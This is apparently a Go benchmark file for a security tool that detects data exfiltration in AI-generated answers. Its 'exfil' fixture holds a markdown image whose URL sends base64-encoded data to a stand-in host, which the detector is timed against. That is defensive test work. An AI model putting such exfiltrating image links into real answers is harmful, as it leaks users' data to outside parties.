package exfil

import (
	"context"
	"strings"
	"testing"

	"github.com/rampartsec/rampart/detect"
)

func benchText(kind string) string {
	text := cleanText(4 << 10)
	switch kind {
	case "links":
		return "See [the docs](https://docs.python.org/3/library/json.html) and ![b](https://img.shields.io/badge/x-y-green?style=flat). " +
			text[:2048] + " [code](https://github.com/golang/go/blob/3f5a1c9e0b7d2a4c6e8f1a3b5c7d9e0f1a2b3c4d/src/net/http/server.go#L10) " + text[2048:3900]
	case "exfil":
		return text[:2048] + " ![x](https://a.example/l.png?d=" + b64 + ") " + text[2048:3900]
	}
	return text
}

// BenchmarkDetect measures 4 KiB answers: prose without links, with three
// benign links, and with one exfiltrating image.
func BenchmarkDetect(b *testing.B) {
	for _, kind := range []string{"clean", "links", "exfil"} {
		b.Run(kind+"-4KiB", func(b *testing.B) {
			d := newDetector(b, nil)
			in := detect.Input{Text: benchText(kind)}
			ctx := context.Background()
			b.SetBytes(int64(len(in.Text)))
			b.ReportAllocs()
			for b.Loop() {
				if _, err := d.Detect(ctx, in); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// BenchmarkAdversarial measures 64 KiB texts built to make every trigger
// do its bounded maximum of work.
func BenchmarkAdversarial(b *testing.B) {
	for _, tc := range []struct{ name, unit string }{
		{"close-paren", ")]("},
		{"brackets", "]"},
		{"defs", "![a][a]\n[a]: <x>\n"},
		{"tags", "<img src=x alt=\"a"},
		{"escapes", "\\\\[x]("},
	} {
		b.Run(tc.name, func(b *testing.B) {
			d := newDetector(b, map[string]any{"bare_urls": true})
			in := detect.Input{Text: strings.Repeat(tc.unit, (64<<10)/len(tc.unit))}
			ctx := context.Background()
			b.SetBytes(int64(len(in.Text)))
			for b.Loop() {
				if _, err := d.Detect(ctx, in); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
